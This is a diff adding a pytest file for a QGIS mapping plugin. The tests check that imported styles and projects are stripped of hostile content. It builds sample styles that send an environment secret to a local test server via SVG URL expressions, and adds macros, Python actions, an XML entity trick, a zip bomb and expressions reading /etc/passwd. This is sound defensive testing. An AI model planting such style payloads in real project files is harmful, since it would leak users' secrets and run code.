@@ -1,0 +1,250 @@
+"""Styles and projects of others are data: they neither act, nor ask other computers, nor tell of this one."""
+
+import os
+import zipfile
+from pathlib import Path
+
+import pytest
+from opgavenkaart.processing.cartography import project_layers
+from opgavenkaart.processing.cartography.plain_looks import clean_looks, clean_value, is_own
+from opgavenkaart.processing.cartography.project import LayerEntry, make_project, save_project
+from opgavenkaart.processing.cartography.project_copy import read_project
+from opgavenkaart.processing.cartography.rendering import png_of
+from opgavenkaart.processing.cartography.styles import SYMBOLS_AND_LABELS
+from opgavenkaart.processing.cartography.theme import theme
+from opgavenkaart.processing.model.errors import OpgaveError
+from opgavenkaart.processing.qgis_io import project_text
+from opgavenkaart.processing.sources.watch.project_file import read_project as read_for_repair
+from opgavenkaart.processing.texts.language import Language
+from opgavenkaart.test.support.layers import memory_layer
+from opgavenkaart.test.support.running import run_algorithm
+from opgavenkaart.test.support.servers_replay import Answer, replay
+from opgavenkaart.test.support.six_units import CLUSTERED, TWO, six_units
+from qgis.core import (
+    QgsAction,
+    QgsCentroidFillSymbolLayer,
+    QgsCoordinateTransformContext,
+    QgsExpression,
+    QgsFillSymbol,
+    QgsMarkerSymbol,
+    QgsPalLayerSettings,
+    QgsProject,
+    QgsProperty,
+    QgsReadWriteContext,
+    QgsRectangle,
+    QgsRuleBasedRenderer,
+    QgsSingleSymbolRenderer,
+    QgsSvgMarkerSymbolLayer,
+    QgsSymbolLayer,
+    QgsVectorFileWriter,
+    QgsVectorLayer,
+    QgsVectorLayerSimpleLabeling,
+)
+from qgis.PyQt.QtXml import QDomDocument
+
+SVG = b"<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10'><rect width='10' height='10'/></svg>"
+SLD = """<StyledLayerDescriptor xmlns="http://www.opengis.net/sld" xmlns:ogc="http://www.opengis.net/ogc" xmlns:xlink="http://www.w3.org/1999/xlink">
+<NamedLayer><UserStyle><FeatureTypeStyle><Rule><PointSymbolizer><Graphic>{mark}<Size>20</Size></Graphic></PointSymbolizer></Rule><Rule>
+<ogc:Filter><ogc:PropertyIsEqualTo><ogc:Function name="env"><ogc:Literal>TOPSECRET</ogc:Literal></ogc:Function><ogc:Literal>x</ogc:Literal>
+</ogc:PropertyIsEqualTo></ogc:Filter><PointSymbolizer><Graphic><Mark><WellKnownName>circle</WellKnownName></Mark></Graphic></PointSymbolizer>
+</Rule></FeatureTypeStyle></UserStyle></NamedLayer></StyledLayerDescriptor>"""
+REMOTE = "<ExternalGraphic><OnlineResource xlink:href='{url}/t.svg'/><Format>image/svg+xml</Format></ExternalGraphic>"
+
+
+@pytest.fixture
+def points(qgis_app, tmp_path):
+    """A file of three points, whose codes are texts."""
+    made = memory_layer("Point", [(f"POINT ({n} {n})", f"c{n}") for n in range(3)], "code:string")
+    options = QgsVectorFileWriter.SaveVectorOptions()
+    options.layerName = "points"
+    QgsVectorFileWriter.writeAsVectorFormatV3(made, str(tmp_path / "points.gpkg"), made.transformContext(), options)
+    return f"{tmp_path / 'points.gpkg'}|layername=points"
+
+
+@pytest.fixture
+def listener(monkeypatch):
+    monkeypatch.setitem(os.environ, "TOPSECRET", "zeer-geheim")
+    with replay({}) as server:
+        asked = []
+        server.answer = lambda path, query, headers: asked.append(path) or Answer(SVG, "image/svg+xml")
+        server.asked = asked
+        yield server
+
+
+def dress(layer: QgsVectorLayer, url: str) -> None:
+    """Give a layer looks that act, ask a server and tell it variables of the environment."""
+    leak = QgsSvgMarkerSymbolLayer("arrows/Arrow_01.svg")
+    leak.setDataDefinedProperty(QgsSymbolLayer.Property.PropertyName, QgsProperty.fromExpression(f"'{url}/leak/' || env('TOPSECRET')"))
+    fetch = QgsSvgMarkerSymbolLayer(f"{url}/plain.svg")
+    layer.setRenderer(QgsSingleSymbolRenderer(QgsMarkerSymbol([leak, fetch])))
+    settings = QgsPalLayerSettings()
+    settings.fieldName, settings.isExpression = "env('TOPSECRET') || @user_account_name", True
+    layer.setLabeling(QgsVectorLayerSimpleLabeling(settings))
+    layer.setLabelsEnabled(True)
+    layer.actions().addAction(QgsAction(QgsAction.ActionType.GenericPython, "PWNED_ACTION", "import os"))
+    form = layer.editFormConfig()
+    form.setInitCode("PWNED_FORM = 1")
+    form.setInitFunction("my_form_open")
+    layer.setEditFormConfig(form)
+    layer.setMapTipTemplate("PWNED_TIP<script>1</script>[% env('TOPSECRET') %]")
+    layer.setCustomProperty("PWNED_PROPERTY", "x")
+
+
+def looks_of(layer) -> str:
+    """Return symbols and labels of a layer as QGIS writes them."""
+    document = QDomDocument()
+    layer.exportNamedStyle(document, QgsReadWriteContext(), SYMBOLS_AND_LABELS)
+    return document.toString(1)
+
+
+def draw(layers, crs) -> bytes:
+    return png_of(layers, crs, QgsRectangle(-1, -1, 3, 3), 60, 60)
+
+
+def test_a_record_s_style_brings_looks_and_nothing_else(points, listener, tmp_path):
+    source = QgsVectorLayer(points, "x", "ogr")
+    dress(source, listener.url)
+    source.saveNamedStyle(str(tmp_path / "own.qml"))
+    listener.asked.clear()
+    entry = LayerEntry("x", "", "x", points, style_file=str(tmp_path / "own.qml"))
+    project = make_project([entry], "EPSG:31370", "x", theme(), Language("en"))
+    (layer,) = project.mapLayers().values()
+    draw([layer], project.crs())
+    save_project(project, tmp_path / "x.qgz")
+    written = zipfile.ZipFile(tmp_path / "x.qgz").read("x.qgs").decode()
+    assert listener.asked == []
+    assert [word for word in ("PWNED", "TOPSECRET", listener.url, "my_form_open", "user_account_name") if word in written] == []
+    assert layer.renderer().symbol().symbolLayerCount() == 2  # what can be drawn of it is
+    project.clear()
+
+
+def test_an_honest_style_stays_as_it_is(points, tmp_path):
+    """Rules, scales, labels and symbols of QGIS that look at the features only are taken letter for letter."""
+    layer = QgsVectorLayer(points, "x", "ogr")
+    symbol = QgsMarkerSymbol([QgsSvgMarkerSymbolLayer("arrows/Arrow_01.svg")])
+    symbol.setDataDefinedSize(QgsProperty.fromExpression('scale_linear(length("code"), 0, 9, 1, 5) * if(@map_scale > 5000, 1, 2)'))
+    rules = QgsRuleBasedRenderer(symbol)
+    rules.rootRule().children()[0].setFilterExpression("\"code\" LIKE 'c%' AND $id > 1")
+    layer.setRenderer(rules)
+    settings = QgsPalLayerSettings()
+    settings.fieldName, settings.isExpression = "upper(\"code\") || ' (' || round($x, 1) || ')'", True
+    layer.setLabeling(QgsVectorLayerSimpleLabeling(settings))
+    layer.setLabelsEnabled(True)
+    layer.saveNamedStyle(str(tmp_path / "own.qml"))
+    text, changed = clean_looks((tmp_path / "own.qml").read_text(encoding="utf-8"), "own.qml")
+    entry = LayerEntry("x", "", "x", points, style_file=str(tmp_path / "own.qml"))
+    project = make_project([entry], "EPSG:31370", "x", theme(), Language("en"))
+    (taken,) = project.mapLayers().values()
+    assert not changed and taken.labeling().settings().fieldName == settings.fieldName
+    assert looks_of(taken) == looks_of(layer)
+    project.clear()
+
+
+@pytest.mark.parametrize("mark", [REMOTE, "<Mark><WellKnownName>star</WellKnownName></Mark>"])
+def test_an_sld_asks_no_server_and_no_environment(points, listener, tmp_path, mark):
+    (tmp_path / "own.sld").write_text(SLD.format(mark=mark.format(url=listener.url)))
+    entry = LayerEntry("x", "", "x", points, style_file=str(tmp_path / "own.sld"))
+    project = make_project([entry], "EPSG:31370", "x", theme(), Language("en"))
+    (layer,) = project.mapLayers().values()
+    draw([layer], project.crs())
+    assert listener.asked == []
+    assert len(layer.renderer().rootRule().children()) == 2
+    assert "env" not in layer.renderer().dump()
+    project.clear()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "env('A')",
+        "eval('en' || 'v(''A'')')",
+        "@user_account_name",
+        "@project_folder",
+        "@qgis_os_name",
+        "var('user_' || 'account_name')",
+        "layer_property('x', 'path')",
+        "aggregate('x', 'concatenate', \"a\")",
+        "coalesce(1, array_foreach(array(1), env('A')))",
+        "CASE WHEN true THEN file_exists('/etc/passwd') END",
+        "overlay_nearest('x', $id)",
+        "load_layer('/etc/passwd', 'ogr')",
+        "sqlite_fetch_and_increment('/x.gpkg', 'a', 'b', 'c', map())",
+    ],
+)
+def test_an_expression_that_looks_further_than_the_feature_gives_nothing(qgis_app, text):
+    assert not QgsExpression(text).hasParserError() and not is_own(text)
+    assert clean_value(text.replace("'", "&apos;")) == "NULL"
+    assert clean_value(f"a [% {text} %] b") == "a  b"
+
+
+def test_a_style_with_entities_or_gigabytes_is_refused(qgis_app, tmp_path, monkeypatch):
+    with pytest.raises(OpgaveError, match="cannot be read as a style or project"):
+        clean_looks('<!DOCTYPE qgis [<!ENTITY x "env(\'A\')">]><qgis a="&x;"/>', "own.qml")
+    monkeypatch.setattr(project_text, "MOST_BYTES", 1 << 20)
+    with zipfile.ZipFile(tmp_path / "bomb.qgz", "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("bomb.qgs", b"<qgis>" + b" " * (2 << 20) + b"</qgis>")
+    (tmp_path / "own.qml").write_bytes(b" " * (2 << 20))
+    transforms = QgsCoordinateTransformContext()
+    for read in (read_project, read_for_repair, lambda path: list(project_layers.project_layers(path, transforms))):
+        with pytest.raises(OpgaveError, match="unpacks to more than 1 MB, and is not opened"):
+            read(tmp_path / "bomb.qgz")
+    with pytest.raises(OpgaveError, match="more than 1 MB"):
+        project_text.read_style(tmp_path / "own.qml")
+
+
+@pytest.fixture(scope="module")
+def bundle(qgis_app, qgis_processing, tmp_path_factory):
+    """A bundle of a town of six units."""
+    folder = tmp_path_factory.mktemp("bundle")
+    town = six_units(folder)
+    inputs = town.write(town.challenge(*TWO, **CLUSTERED))
+    run_algorithm("integrated_map", {**inputs, "OUTPUT_FOLDER": str(folder / "out"), "LANGUAGE": "en"})
+    return folder / "out"
+
+
+def test_our_own_project_is_drawn_as_it_is(bundle):
+    """Nothing is taken from what this plugin makes."""
+    text = zipfile.ZipFile(bundle / "small_town.qgz").read("small_town.qgs").decode()
+    assert clean_looks(text, "small_town.qgz")[1] is False
+    found = []
+    for of_bundle in (False, True):
+        project = read_project(bundle / "small_town.qgz", of_bundle)
+        layers = project.layerTreeRoot().layerOrder()
+        assert all(layer.isValid() for layer in layers)
+        found.append([looks_of(layer) for layer in layers])
+        project.clear()
+    assert found[0] == found[1] and len(found[0]) > 3
+
+
+def test_a_mailed_bundle_s_project_neither_asks_nor_acts(bundle, listener, tmp_path):
+    """Its looks ask a server, and tell it the environment: the atlas is made of a cleaned copy."""
+    project = QgsProject()
+    project.read(str(bundle / "small_town.qgz"))
+    for layer in project.mapLayers().values():
+        if isinstance(layer, QgsVectorLayer) and layer.isSpatial():
+            dress(layer, listener.url)
+            if layer.geometryType().name == "Polygon":
+                centre = QgsCentroidFillSymbolLayer()
+                leak = QgsSvgMarkerSymbolLayer(f"{listener.url}/plain.svg")
+                centre.setSubSymbol(QgsMarkerSymbol([leak]))
+                layer.setRenderer(QgsSingleSymbolRenderer(QgsFillSymbol([centre])))
+    project.writeEntry("Macros", "/pythonCode", "PWNED_MACRO")
+    project.write(str(bundle / "small_town.qgz"))
+    project.clear()
+    listener.asked.clear()
+    text = zipfile.ZipFile(bundle / "small_town.qgz").read("small_town.qgs").decode()
+    assert "PWNED_MACRO" in text and "PWNED_ACTION" in text and listener.url in text
+    clean, changed = clean_looks(text, "small_town.qgz")
+    assert changed and not [word for word in ("PWNED_M", "PWNED_A", "PWNED_F", "PWNED_T", "TOPSECRET", f'"{listener.url}') if word in clean]
+    made = run_algorithm(
+        "export_atlas",
+        {
+            "BUNDLE": str(bundle),
+            "CLUSTERS": f"{bundle}/small_town.gpkg|layername=clusters",
+            "FORMAT": "png",
+            "OUTPUT_FOLDER": str(tmp_path / "atlas"),
+        },
+    )
+    assert made["PAGE_COUNT"] >= 1 and listener.asked == []
+    run_algorithm("export_map", {"PROJECT": str(bundle / "small_town.qgz"), "FORMAT": "png", "OUTPUT": str(tmp_path / "map.png")})
+    assert Path(tmp_path / "map.png").stat().st_size > 0 and listener.asked == []
